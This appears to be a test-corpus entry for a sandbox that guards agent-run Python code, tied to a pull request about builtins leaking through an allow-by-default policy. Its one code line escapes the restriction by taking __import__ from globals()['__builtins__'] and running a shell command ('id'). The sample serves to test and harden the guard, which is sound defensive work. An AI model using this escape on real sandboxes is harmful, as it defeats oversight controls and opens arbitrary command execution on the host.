# Source: https://github.com/microsoft/agent-governance-toolkit/pull/2631 (globals/breakpoint leaked through allow-by-default builtins)
# Family: builtins-route
# What: globals()['__builtins__'] lookup
globals()["__builtins__"].__import__("os").system("id")
